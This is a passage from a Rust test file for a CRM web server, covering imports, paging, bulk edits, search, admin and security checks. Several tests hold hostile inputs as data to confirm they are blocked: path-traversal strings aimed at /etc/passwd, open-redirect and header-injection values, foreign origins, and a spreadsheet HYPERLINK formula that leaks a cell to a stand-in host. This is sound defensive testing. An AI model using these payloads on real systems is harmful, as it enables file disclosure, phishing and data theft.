               p-1,EUR,1.20,2026-01-01\n\
               Cola,EUR,0.95,2026-01-01\n\
               P-9,EUR,1.00,2026-01-01\n";
    let preview = fx.import_preview(&olivia, "price", csv).await;
    assert!(
        preview
            .body
            .contains("Product (a product&#39;s name or SKU)")
            || preview.body.contains("Product (a product's name or SKU)"),
        "{}",
        preview.body
    );
    let guessed: Vec<String> = (0..4).map(|i| mapped(&preview.body, i)).collect();
    assert_eq!(guessed, ["by_name", "currency", "unit_price", "valid_from"]);
    let run = fx.import_run(&olivia, "price", csv, &guessed, &extra).await;
    assert!(
        run.body.contains("<strong class=\"imported\">2</strong>"),
        "{}",
        run.body
    );
    assert!(run.body.contains("no product named"), "{}", run.body);
    let lemonade = fx
        .relay
        .search("Lemonade", Some(Kind::Product), &[], 5)
        .unwrap()
        .pop()
        .unwrap();
    let prices = fieldcrm_server::relay::office::list(
        &*fx.relay,
        &fx.relay.user("olivia").unwrap().unwrap().0,
        fieldcrm_core::ListQuery {
            kind: Some(Kind::Price),
            field_is: vec![("product_id".into(), lemonade.id.clone())],
            limit: 10,
            ..Default::default()
        },
    )
    .unwrap()
    .records;
    assert_eq!(prices.len(), 1);
    assert_eq!(
        prices[0].get("unit_price"),
        Some(&fieldcrm_core::Value::Int(120))
    );
}

#[tokio::test]
async fn paths_that_climb_out_find_nothing() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    for path in [
        "/static/../../etc/passwd",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/static/..%2fCargo.toml",
        "/r/..%2f..%2fetc%2fpasswd",
        "/accounts/..%2f..%2fetc%2fpasswd/export.csv",
    ] {
        let answer = fx.get(&olivia, path).await;
        assert!(
            answer.status == StatusCode::NOT_FOUND || answer.status == StatusCode::BAD_REQUEST,
            "{path}: {}",
            answer.status
        );
        assert!(!answer.body.contains("root:"), "{path}");
    }
    assert_eq!(
        fx.get(&olivia, "/static/app.css").await.status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn the_session_cookie_is_secure_when_the_relay_is_served_over_https() {
    let fx = fixture();
    let options = fieldcrm_server::ServeOptions {
        secure_cookies: true,
        ..Default::default()
    };
    let state = AppState::with_options(fx.relay.clone(), options).unwrap();
    let response = app(state)
        .oneshot(form_request(
            "/login",
            "",
            &[("username", "ann"), ("password", "password1")],
        ))
        .await
        .unwrap();
    let cookie = response.headers()[header::SET_COOKIE].to_str().unwrap();
    assert!(cookie.ends_with("; Secure"), "{cookie}");
    // The default (plain HTTP on a LAN) does not mark it.
    let plain = fx
        .app
        .clone()
        .oneshot(form_request(
            "/login",
            "",
            &[("username", "ann"), ("password", "password1")],
        ))
        .await
        .unwrap();
    assert!(!plain.headers()[header::SET_COOKIE]
        .to_str()
        .unwrap()
        .contains("Secure"));
}

#[tokio::test]
async fn a_page_number_out_of_range_is_a_clear_400() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    for path in [
        "/accounts?page=4000000000000000",
        "/accounts?page=-1",
        "/accounts?sort=drop",
    ] {
        let answer = fx.get(&olivia, path).await;
        assert_eq!(
            answer.status,
            StatusCode::BAD_REQUEST,
            "{path}: {}",
            answer.body
        );
    }
    let huge = fx.get(&olivia, "/accounts?page=4000000000000000").await;
    assert!(huge.body.contains("too large"), "{}", huge.body);
}

/// 120 north accounts named "Firm 000" … "Firm 119", made in one office edit.
fn many_accounts(fx: &Fixture) {
    use fieldcrm_server::relay::office;
    let olivia = fx.relay.user("olivia").unwrap().unwrap().0;
    let edits = (0..120)
        .map(|i| fieldcrm_core::Edit::Create {
            kind: Kind::Account,
            fields: fields([
                ("name", format!("Firm {i:03}")),
                ("territory", "north".to_string()),
                ("notes", "harbour crane".to_string()),
            ]),
        })
        .collect();
    for outcome in office::edit(&*fx.relay, &olivia, edits).unwrap() {
        outcome.unwrap();
    }
}

fn first_row_name(body: &str) -> &str {
    let row = between(body, "<tbody>", "</tr>");
    let link = between(row, "<a href=", "</a>");
    &link[link.find('>').unwrap() + 1..]
}

#[tokio::test]
async fn lists_sort_by_their_headers_and_page_with_numbers_and_totals() {
    let fx = fixture();
    many_accounts(&fx);
    let olivia = fx.sign_in("olivia").await;
    let list = fx.get(&olivia, "/accounts").await;
    assert_eq!(first_row_name(&list.body), "Firm 000");
    // The Name header sorts; it says which way; clicking again reverses.
    let header = between(&list.body, "<th aria-sort=\"ascending\">", "</th>");
    assert!(header.contains("Name ▲"), "{header}");
    let reverse = between(header, "href=\"", "\"").replace("&amp;", "&");
    assert!(reverse.contains("desc=true"), "{reverse}");
    let reversed = fx.get(&olivia, &reverse).await;
    assert_eq!(first_row_name(&reversed.body), "Firm 119");
    assert!(reversed.body.contains("aria-sort=\"descending\""));

    // Page numbers, the range shown and the total.
    let pages = between(&list.body, "<nav class=\"pages\"", "</nav>");
    assert!(pages.contains("aria-current=\"page\">1<"), "{pages}");
    assert!(
        pages.contains("page=2\">3<") && pages.contains("1–50 of 120"),
        "{pages}"
    );
    let third = fx.get(&olivia, "/accounts?page=2").await;
    assert_eq!(first_row_name(&third.body), "Firm 100");
    assert!(between(&third.body, "<nav class=\"pages\"", "</nav>").contains("101–120 of 120"));
    // Past the end: said in words, with the way back; never "page 6 of 3".
    let past = fx.get(&olivia, "/accounts?page=5").await;
    assert_eq!(past.status, StatusCode::OK);
    assert!(
        past.body
            .contains("There is no page 6: these 120 records make 3 pages."),
        "{}",
        past.body
    );
    assert!(past
        .body
        .contains("href=\"/accounts?page=2\">Go to the last page"));
    assert!(!past.body.contains("Nothing matches."));

    // Activities sort soonest due first until asked otherwise, and say so.
    let activities = fx.get(&olivia, "/activities").await;
    assert!(
        activities
            .body
            .contains("<option value=\"due_at\" selected>Sort: Due"),
        "{}",
        activities.body
    );

    // Search results page too, past the old 200 cap.
    let found = fx.get(&olivia, "/accounts?q=harbour").await;
    assert!(found.body.contains("120 accounts found"), "{}", found.body);
    let page3 = fx.get(&olivia, "/accounts?q=harbour&page=2").await;
    let rows = between(&page3.body, "<tbody>", "</tbody>")
        .matches("<tr")
        .count();
    assert_eq!(rows, 20, "the last 20 of 120 hits");
    // A search is best match first: its headers do not sort.
    assert!(!between(&found.body, "<thead>", "</thead>").contains("href"));
}

#[tokio::test]
async fn bulk_changes_go_through_the_normal_edit_path_one_record_at_a_time() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    let solent = fx.account(&olivia, "Solent", "south").await;
    let mut deals = Vec::new();
    for (name, territory) in [("One", "north"), ("Two", "north"), ("South", "south")] {
        let account = if territory == "north" { &acme } else { &solent };
        let pairs = [
            ("account_id", account.as_str()),
            ("name", name),
            ("stage", "lead"),
            ("territory", territory),
        ];
        deals.push(fx.create(&olivia, "deals", &pairs).await);
    }
    let list = fx.get(&olivia, "/deals").await;
    assert!(list.body.contains("form=\"bulk\"") && list.body.contains("action=\"/deals/bulk\""));

    // Two deals given to ann; an owner who is no user is refused per record.
    let given = fx
        .post(
            &olivia,
            "/deals/bulk",
            &[
                ("action", "owner"),
                ("owner", "ann"),
                ("id", &deals[0]),
                ("id", &deals[1]),
            ],
        )
        .await;
    assert_eq!(given.status, StatusCode::OK, "{}", given.body);
    assert!(
        given.body.contains("<strong class=\"changed\">2</strong>"),
        "{}",
        given.body
    );
    for id in &deals[..2] {
        assert_eq!(
            fx.relay.record(id).unwrap().unwrap().record.text("owner"),
            Some("ann")
        );
    }
    let nobody = fx
        .post(
            &olivia,
            "/deals/bulk",
            &[("action", "owner"), ("owner", "ghost"), ("id", &deals[2])],
        )
        .await;
    assert!(
        nobody.body.contains("<strong class=\"refused\">1</strong>"),
        "{}",
        nobody.body
    );
    assert!(
        nobody.body.contains("ghost"),
        "the reason names the owner: {}",
        nobody.body
    );

    // Ann moves her territory's deals; the south deal is not found for her.
    let ann = fx.sign_in("ann").await;
    let moved = fx
        .post(
            &ann,
            "/deals/bulk",
            &[
                ("action", "stage"),
                ("stage", "won"),
                ("id", &deals[0]),
                ("id", &deals[2]),
            ],
        )
        .await;
    assert!(
        moved.body.contains("<strong class=\"changed\">1</strong>"),
        "{}",
        moved.body
    );
    assert!(moved.body.contains("<strong class=\"refused\">1</strong>"));
    assert_eq!(
        fx.relay
            .record(&deals[0])
            .unwrap()
            .unwrap()
            .record
            .text("stage"),
        Some("won")
    );
    assert_eq!(
        fx.relay
            .record(&deals[2])
            .unwrap()
            .unwrap()
            .record
            .text("stage"),
        Some("lead")
    );

    let deleted = fx
        .post(
            &olivia,
            "/deals/bulk",
            &[("action", "delete"), ("id", &deals[1])],
        )
        .await;
    assert!(deleted
        .body
        .contains("<strong class=\"changed\">1</strong>"));
    assert!(fx.relay.record(&deals[1]).unwrap().unwrap().record.deleted);
    let none = fx
        .post(&olivia, "/deals/bulk", &[("action", "delete")])
        .await;
    assert_eq!(none.status, StatusCode::BAD_REQUEST);
    assert!(none.body.contains("Tick the records"));
}

#[tokio::test]
async fn custom_fields_are_added_edited_and_cleared_in_the_form_keeping_their_kind() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let id = fx
        .create(
            &olivia,
            "accounts",
            &[
                ("name", "Acme"),
                ("territory", "north"),
                ("new_custom_name", "Tier"),
                ("new_custom_value", "gold"),
            ],
        )
        .await;
    let record = || fx.relay.record(&id).unwrap().unwrap().record;
    assert_eq!(
        record().text("custom.tier"),
        Some("gold"),
        "the name is made a field name"
    );
    // A number set on a device stays a number when edited as text.
    let mut ann = fx.device("ann");
    fx.sync(&mut ann).await;
    ann.update(
        &id,
        fields([("custom.seats", fieldcrm_core::Value::Int(40))]),
    )
    .unwrap();
    fx.sync(&mut ann).await;
    let form = fx.get(&olivia, &format!("/r/{id}/edit")).await;
    assert!(
        form.body.contains("name=\"custom.seats\" value=\"40\""),
        "{}",
        form.body
    );
    // Coordinates sit in a closed "Location" group while they are empty.
    let location = between(&form.body, "<details class=\"location\"", "</details>");
    assert!(
        location.starts_with('>') && location.contains("id=\"geo.lat\""),
        "{location}"
    );
    assert!(form
        .body
        .contains("name=\"custom_type.seats\" value=\"integer\""));
    let saved = fx
        .post(
            &olivia,
            &format!("/r/{id}"),
            &[
                ("name", "Acme"),
                ("custom.tier", ""),
                ("custom.seats", "45"),
                ("custom_type.seats", "integer"),
            ],
        )
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    assert_eq!(
        record().get("custom.seats"),
        Some(&fieldcrm_core::Value::Int(45))
    );
    assert_eq!(record().get("custom.tier"), None, "emptied: cleared");
    let bad = fx
        .post(
            &olivia,
            &format!("/r/{id}"),
            &[
                ("custom.seats", "many"),
                ("custom_type.seats", "integer"),
                ("new_custom_name", "9lives"),
                ("new_custom_value", "x"),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        bad.body.contains("“many” is not a whole number"),
        "{}",
        bad.body
    );
    assert!(
        bad.body.contains("“9lives” cannot name a field"),
        "{}",
        bad.body
    );
    assert_eq!(
        record().get("custom.seats"),
        Some(&fieldcrm_core::Value::Int(45))
    );
}

#[tokio::test]
async fn one_box_searches_every_kind_the_user_can_see() {
    let fx = fixture();
    many_accounts(&fx);
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Harbour Cranes Ltd", "south").await;
    fx.create(
        &olivia,
        "contacts",
        &[
            ("account_id", &acme),
            ("first_name", "Hal"),
            ("last_name", "Harbour"),
            ("territory", "south"),
        ],
    )
    .await;
    // Every page has the box.
    let dashboard = fx.get(&olivia, "/dashboard").await;
    assert!(dashboard.body.contains("action=\"/search\""));
    let page = fx.get(&olivia, "/search?q=harbour").await;
    assert_eq!(page.status, StatusCode::OK);
    let accounts = between(&page.body, "data-kind=\"account\"", "</section>");
    assert!(accounts.contains(">121<"), "{accounts}");
    assert!(
        accounts.contains("href=\"/accounts?q=harbour\">All 121 matching accounts"),
        "{accounts}"
    );
    let contacts = between(&page.body, "data-kind=\"contact\"", "</section>");
    assert!(contacts.contains("Hal Harbour"), "{contacts}");
    assert!(
        !page.body.contains("data-kind=\"deal\""),
        "kinds without hits are left out"
    );
    // A rep's search stays in her territories.
    let sam = fx.sign_in("sam").await;
    let theirs = fx.get(&sam, "/search?q=harbour").await;
    assert!(theirs.body.contains("Harbour Cranes Ltd") && !theirs.body.contains("Firm 0"));
    let nothing = fx.get(&sam, "/search?q=zeppelin").await;
    assert!(nothing.body.contains("Nothing matches “zeppelin”."));
}

#[tokio::test]
async fn an_accounts_timeline_rolls_up_its_deals_and_contacts_and_logs_calls_in_one_step() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    let deal = fx
        .create(
            &olivia,
            "deals",
            &[
                ("account_id", &acme),
                ("name", "Big"),
                ("stage", "lead"),
                ("territory", "north"),
            ],
        )
        .await;
    let task = fx
        .create(
            &olivia,
            "activities",
            &[
                ("kind", "task"),
                ("subject", "Send the quote"),
                ("body", "Prices for 40 cranes"),
                ("related_to", &deal),
                ("due_at", "2020-01-01T09:00"),
                ("territory", "north"),
            ],
        )
        .await;
    let ada = fx
        .create(
            &olivia,
            "contacts",
            &[
                ("account_id", &acme),
                ("first_name", "Ada"),
                ("last_name", "Byron"),
                ("territory", "north"),
            ],
        )
        .await;
    fx.create(
        &olivia,
        "activities",
        &[
            ("kind", "note"),
            ("subject", "Prefers mornings"),
            ("related_to", &ada),
            ("territory", "north"),
        ],
    )
    .await;
    let page = fx.get(&olivia, &format!("/r/{acme}")).await;
    let timeline = between(&page.body, "id=\"timeline-h\"", "</section>");
    assert!(
        timeline.contains("Prefers mornings") && timeline.contains("Ada Byron"),
        "{timeline}"
    );
    assert!(
        timeline.contains("logged "),
        "a note without a due time says when it was logged"
    );

    // The account's page shows the deal's task, what it is on, its body,
    // that it is overdue, and a button to mark it done.
    let page = fx.get(&olivia, &format!("/r/{acme}")).await;
    let timeline = between(&page.body, "id=\"timeline-h\"", "</section>");
    let row = between(timeline, &format!("data-id=\"{task}\""), "</li>");
    assert!(
        row.contains("Send the quote") && row.contains("Prices for 40 cranes"),
        "{row}"
    );
    assert!(row.contains(&format!("href=\"/r/{deal}\">Big")), "{row}");
    assert!(timeline.contains("class=\"overdue\""), "{timeline}");
    assert!(row.contains(&format!("action=\"/r/{task}/done\"")), "{row}");

    // One click marks it done and comes back to the account.
    let done = fx
        .post(&olivia, &format!("/r/{task}/done"), &[("back", &acme)])
        .await;
    assert_eq!(done.status, StatusCode::SEE_OTHER);
    assert_eq!(done.location, format!("/r/{acme}"));
    let page = fx.get(&olivia, &format!("/r/{acme}")).await;
    let row = between(&page.body, &format!("data-id=\"{task}\""), "</li>");
    assert!(
        row.contains(">done<") && !row.contains("Mark done"),
        "{row}"
    );
    // A back that is not a record id goes to the activity instead.
    let elsewhere = fx
        .post(
            &olivia,
            &format!("/r/{task}/done"),
            &[("back", "//evil.example")],
        )
        .await;
    assert_eq!(elsewhere.location, format!("/r/{task}"));

    // A call that just happened, logged from the account in one form:
    // done, now, by olivia, in the account's territory.
    let logged = fx
        .post(
            &olivia,
            &format!("/r/{acme}/log"),
            &[
                ("kind", "call"),
                ("subject", "Spoke to Ada"),
                ("body", "Wants a demo"),
            ],
        )
        .await;
    assert_eq!(logged.status, StatusCode::SEE_OTHER, "{}", logged.body);
    let page = fx.get(&olivia, &format!("/r/{acme}")).await;
    let timeline = between(&page.body, "id=\"timeline-h\"", "</section>");
    assert!(
        timeline.contains("Spoke to Ada") && timeline.contains("Wants a demo"),
        "{timeline}"
    );
    let call = fx
        .relay
        .list(&ListQuery {
            kind: Some(Kind::Activity),
            related_to: Some(acme.clone()),
            ..Default::default()
        })
        .unwrap()
        .records
        .pop()
        .unwrap();
    assert_eq!(call.get("done"), Some(&fieldcrm_core::Value::Bool(true)));
    assert!(call.get("due_at").is_some(), "a logged call has its time");
    assert_eq!(call.text("owner"), Some("olivia"));
    assert_eq!(call.text("territory"), Some("north"));
    let empty = fx
        .post(
            &olivia,
            &format!("/r/{acme}/log"),
            &[("kind", "call"), ("subject", " ")],
        )
        .await;
    assert_eq!(empty.status, StatusCode::BAD_REQUEST);
    assert!(empty.body.contains("subject is empty"), "{}", empty.body);
    // A rep cannot log on, or mark done, what she cannot see.
    let sam = fx.sign_in("sam").await;
    let theirs = fx
        .post(
            &sam,
            &format!("/r/{acme}/log"),
            &[("kind", "call"), ("subject", "x")],
        )
        .await;
    assert_eq!(theirs.status, StatusCode::NOT_FOUND);
}

/// Whether `user` can sign in with `password` (a fresh sign-in each time).
async fn can_sign_in(fx: &Fixture, user: &str, password: &str) -> bool {
    let answer = fx
        .send(form_request(
            "/login",
            "",
            &[("username", user), ("password", password)],
        ))
        .await;
    answer.status == StatusCode::SEE_OTHER && answer.location != "/login"
}

#[tokio::test]
async fn admins_add_users_assign_territories_disable_and_reset_passwords() {
    let fx = fixture();
    let root = fx.sign_in("root").await;
    let page = fx.get(&root, "/admin").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains("href=\"/admin\""),
        "admins see Admin in the navigation"
    );
    // Nobody else may.
    let olivia = fx.sign_in("olivia").await;
    assert!(!fx
        .get(&olivia, "/dashboard")
        .await
        .body
        .contains("href=\"/admin\""));
    assert_eq!(
        fx.get(&olivia, "/admin").await.status,
        StatusCode::FORBIDDEN
    );
    let forbidden = fx.post(&olivia, "/admin/users/ann/disable", &[]).await;
    assert_eq!(forbidden.status, StatusCode::FORBIDDEN);

    // Add a rep in the north, then move her to both territories.
    let added = fx
        .post(
            &root,
            "/admin/users",
            &[
                ("name", "nina"),
                ("role", "rep"),
                ("territory", "north"),
                ("password", "password1"),
            ],
        )
        .await;
    assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
    assert_eq!(
        fx.relay.user("nina").unwrap().unwrap().0.territories,
        ["north"]
    );
    assert!(can_sign_in(&fx, "nina", "password1").await);
    let moved = fx
        .post(
            &root,
            "/admin/users/nina/territories",
            &[("territory", "north"), ("territory", "south")],
        )
        .await;
    assert_eq!(moved.status, StatusCode::SEE_OTHER);
    assert_eq!(
        fx.relay.user("nina").unwrap().unwrap().0.territories,
        ["north", "south"]
    );
    let unknown = fx
        .post(
            &root,
            "/admin/users/nina/territories",
            &[("territory", "mars")],
        )
        .await;
    assert_eq!(unknown.status, StatusCode::BAD_REQUEST, "{}", unknown.body);

    assert!(fx
        .get(&root, "/lookup?kind=user&q=nin")
        .await
        .body
        .contains("\"id\":\"nina\""));
    // Disabled: no sign-in, her session ends, the page says so.
    let nina = fx.sign_in("nina").await;
    let disabled = fx.post(&root, "/admin/users/nina/disable", &[]).await;
    assert_eq!(disabled.status, StatusCode::SEE_OTHER);
    assert!(!can_sign_in(&fx, "nina", "password1").await);
    assert_eq!(
        fx.get(&nina, "/dashboard").await.status,
        StatusCode::SEE_OTHER,
        "signed out"
    );
    let row = between(
        &fx.get(&root, "/admin").await.body,
        "data-user=\"nina\"",
        "</tr>",
    )
    .to_string();
    assert!(
        row.contains("disabled") && row.contains("/admin/users/nina/enable"),
        "{row}"
    );
    // Records can no longer be given to her.
    let owners = fx.get(&root, "/lookup?kind=user&q=nin").await;
    assert_eq!(owners.body, "[]", "a disabled user is not offered as owner");
    // A new password keeps her disabled; enabling lets her in with it.
    let reset = fx
        .post(
            &root,
            "/admin/users/nina/password",
            &[("password", "fresh-pass-2")],
        )
        .await;
    assert_eq!(reset.status, StatusCode::SEE_OTHER);
    assert!(!can_sign_in(&fx, "nina", "fresh-pass-2").await);
    fx.post(&root, "/admin/users/nina/enable", &[]).await;
    assert!(can_sign_in(&fx, "nina", "fresh-pass-2").await);
    assert!(!can_sign_in(&fx, "nina", "password1").await);
    let short = fx
        .post(
            &root,
            "/admin/users/nina/password",
            &[("password", "short")],
        )
        .await;
    assert_eq!(short.status, StatusCode::BAD_REQUEST);
    assert!(
        short.body.contains("at least 8 characters"),
        "{}",
        short.body
    );
    // An admin cannot lock themselves out.
    let own = fx.post(&root, "/admin/users/root/disable", &[]).await;
    assert_eq!(own.status, StatusCode::BAD_REQUEST);

    let territory = fx
        .post(&root, "/admin/territories", &[("name", "west")])
        .await;
    assert_eq!(territory.status, StatusCode::SEE_OTHER);
    assert!(fx
        .relay
        .territories()
        .unwrap()
        .contains(&"west".to_string()));
}

#[tokio::test]
async fn the_review_page_shows_held_changes_to_office_and_managers_and_takes_decisions() {
    let fx = fixture();
    let mut ann = fx.device("ann");
    let id = ann
        .create(
            Kind::Account,
            fields([("name", "Held <b>Co</b>"), ("territory", "north")]),
        )
        .unwrap()
        .id;
    fx.sync(&mut ann).await;
    ann.update(&id, fields([("phone", "+44 20 7946 0000")]))
        .unwrap();
    fx.relay.set_territories("ann", &["south".into()]).unwrap();
    fx.sync(&mut ann).await;
    assert_eq!(ann.outbox_status().unwrap().held, 1);

    // A rep has no review page, nor a link to it.
    let ann_browser = fx.sign_in("ann").await;
    assert!(!fx
        .get(&ann_browser, "/dashboard")
        .await
        .body
        .contains("/review"));
    assert_eq!(
        fx.get(&ann_browser, "/review").await.status,
        StatusCode::FORBIDDEN
    );
    let refused = fx
        .post(
            &ann_browser,
            &format!("/review/{id}"),
            &[("decision", "accept")],
        )
        .await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);

    // The manager of the north sees it, escaped; the office accepts it.
    let maria = fx.sign_in("maria").await;
    let page = fx.get(&maria, "/review").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains("Held &lt;b&gt;Co&lt;/b&gt;"),
        "{}",
        page.body
    );
    assert!(page.body.contains("+44 20 7946 0000") && page.body.contains(">ann<"));
    let olivia = fx.sign_in("olivia").await;
    let no_token = fx
        .send(form_request(
            &format!("/review/{id}"),
            &olivia.cookie,
            &[("decision", "accept")],
        ))
        .await;
    assert_eq!(
        no_token.status,
        StatusCode::FORBIDDEN,
        "CSRF token required"
    );
    let accepted = fx
        .post(&olivia, &format!("/review/{id}"), &[("decision", "accept")])
        .await;
    assert_eq!(accepted.status, StatusCode::SEE_OTHER, "{}", accepted.body);
    assert!(fx
        .get(&olivia, "/review")
        .await
        .body
        .contains("Nothing is waiting for review"));
    let record = fx.get(&olivia, &format!("/r/{id}")).await;
    assert!(record.body.contains("+44 20 7946 0000"));
    fx.sync(&mut ann).await;
    assert_eq!(ann.outbox_status().unwrap().held, 0);
    assert!(ann.get(&id).is_err());
}

#[tokio::test]
async fn sign_in_sends_users_only_to_this_site_and_never_fails() {
    let fx = fixture();
    for (next, lands) in [
        ("/deals?stage=won", "/deals?stage=won"),
        ("/\t/example.invalid/phish", "/dashboard"),
        ("/\n/example.invalid", "/dashboard"),
        ("/\r\nSet-Cookie: x=1", "/dashboard"),
        ("//example.invalid", "/dashboard"),
        ("/\\example.invalid", "/dashboard"),
        ("https://example.invalid/", "/dashboard"),
        ("javascript:alert(1)", "/dashboard"),
    ] {
        let answer = fx
            .send(form_request(
                "/login",
                "",
                &[
                    ("username", "ann"),
                    ("password", "password1"),
                    ("next", next),
                ],
            ))
            .await;
        assert_eq!(
            answer.status,
            StatusCode::SEE_OTHER,
            "{next:?}: {}",
            answer.body
        );
        assert_eq!(answer.location, lands, "{next:?}");
    }
    // The sign-in page does not carry a foreign `next` along either.
    let page = fx
        .send(
            Request::get("/login?next=%09%2Fexample.invalid")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert!(
        page.body.contains("name=\"next\" value=\"/dashboard\""),
        "{}",
        page.body
    );
}

#[tokio::test]
async fn every_page_and_export_carries_the_security_headers() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let id = fx.account(&olivia, "Acme", "north").await;
    let record = format!("/r/{id}");
    for path in [
        "/login",
        "/dashboard",
        "/accounts",
        record.as_str(),
        "/accounts/export.csv",
        "/review",
        "/no-such-list",
        "/v1/sync",
    ] {
        let response = fx
            .app
            .clone()
            .oneshot(
                Request::get(path)
                    .header(header::COOKIE, &olivia.cookie)
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        let h = response.headers();
        let csp = h[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(
            csp.contains("script-src 'self'") && !csp.contains("unsafe"),
            "{path}: {csp}"
        );
        assert_eq!(h[header::X_FRAME_OPTIONS], "DENY", "{path}");
        assert_eq!(h[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{path}");
        assert_eq!(h[header::REFERRER_POLICY], "same-origin", "{path}");
        assert_eq!(h[header::CACHE_CONTROL], "no-store", "{path}");
    }
    // The stylesheet may be cached; it is still not sniffed.
    let css = fx
        .app
        .clone()
        .oneshot(Request::get("/static/app.css").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert!(css.headers()[header::CACHE_CONTROL]
        .to_str()
        .unwrap()
        .contains("max-age"));
    assert_eq!(css.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    // Nothing on the pages needs the CSP loosened.
    for path in [
        "/dashboard",
        "/accounts",
        record.as_str(),
        "/accounts/new",
        "/pipeline",
        "/nope/x",
    ] {
        let page = fx.get(&olivia, path).await;
        for inline in ["style=", "javascript:", "onclick", "<script>"] {
            assert!(!page.body.contains(inline), "{path} has {inline}");
        }
    }
}

#[tokio::test]
async fn forms_from_another_site_or_a_null_origin_are_refused_sign_in_included() {
    let fx = fixture();
    for origin in [
        "null",
        "https://evil.example",
        "http://crm.example.evil.example",
        "crm.example",
    ] {
        let mut request = form_request(
            "/login",
            "",
            &[("username", "ann"), ("password", "password1")],
        );
        request
            .headers_mut()
            .insert(header::ORIGIN, origin.parse().unwrap());
        let response = fx.app.clone().oneshot(request).await.unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{origin}");
        assert!(
            !response.headers().contains_key(header::SET_COOKIE),
            "{origin}"
        );
    }
    // A client that sends no Origin (not a browser) still signs in.
    let mut request = form_request(
        "/login",
        "",
        &[("username", "ann"), ("password", "password1")],
    );
    request.headers_mut().remove(header::ORIGIN);
    assert_eq!(fx.send(request).await.status, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn failed_sign_ins_slow_down_the_client_without_locking_the_user_out() {
    let fx = fixture();
    let from = |ip: [u8; 4], user: &str, password: &str| {
        let mut request = form_request("/login", "", &[("username", user), ("password", password)]);
        let peer = std::net::SocketAddr::from((ip, 40000));
        request
            .extensions_mut()
            .insert(axum::extract::ConnectInfo(peer));
        request
    };
    for _ in 0..fieldcrm_server::login_throttle::FREE_PER_USER {
        let answer = fx.send(from([203, 0, 113, 9], "ann", "guess-guess")).await;
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
    }
    let held = fx.send(from([203, 0, 113, 9], "ann", "password1")).await;
    assert_eq!(held.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(
        held.body.contains("try again in 1 second."),
        "{}",
        held.body
    );
    // Ann at her own computer is not affected.
    let ann = fx.send(from([198, 51, 100, 7], "ann", "password1")).await;
    assert_eq!(ann.status, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn metrics_can_be_kept_to_the_holder_of_a_token() {
    let fx = fixture();
    let open = fx
        .send(Request::get("/metrics").body(Body::empty()).unwrap())
        .await;
    assert_eq!(open.status, StatusCode::OK, "open unless a token is set");
    let state = AppState::with_options(
        fx.relay.clone(),
        fieldcrm_server::ServeOptions {
            metrics_token: Some("scrape-secret".into()),
            ..Default::default()
        },
    )
    .unwrap();
    let router = app(state);
    let metrics = |auth: Option<&str>| {
        let mut request = Request::get("/metrics");
        if let Some(auth) = auth {
            request = request.header(header::AUTHORIZATION, auth);
        }
        router.clone().oneshot(request.body(Body::empty()).unwrap())
    };
    for refused in [None, Some("Bearer wrong"), Some("scrape-secret")] {
        let response = metrics(refused).await.unwrap();
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{refused:?}");
        assert_eq!(response.headers()[header::WWW_AUTHENTICATE], "Bearer");
    }
    let response = metrics(Some("Bearer scrape-secret")).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body = response.into_body().collect().await.unwrap().to_bytes();
    assert!(String::from_utf8_lossy(&body).contains("fieldcrm_"));
}

#[tokio::test]
async fn exported_cells_cannot_run_as_spreadsheet_formulas() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")";
    fx.create(
        &olivia,
        "accounts",
        &[
            ("name", evil),
            ("territory", "north"),
            ("phone", "+44 20 7946 0000"),
        ],
    )
    .await;
    let export = fx.get(&olivia, "/accounts/export.csv").await;
    let body = export.body.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("name"), format!("'{evil}"));
    assert_eq!(cell("phone"), "'+44 20 7946 0000");
}

#[tokio::test]
async fn references_show_their_records_name_as_a_link_everywhere() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    let beta = fx.account(&olivia, "Beta & Co", "north").await;
    let ada = fx
        .create(
            &olivia,
            "contacts",
            &[
                ("first_name", "Ada"),
                ("last_name", "Lovelace"),
                ("account_id", &acme),
                ("territory", "north"),
            ],
        )
        .await;
    let deal = fx
        .create(
            &olivia,
            "deals",
            &[
                ("name", "Renewal"),
                ("account_id", &acme),
                ("stage", "lead"),
                ("territory", "north"),
            ],
        )
        .await;
    fx.create(
        &olivia,
        "activities",
        &[
            ("subject", "Call Ada"),
            ("kind", "call"),
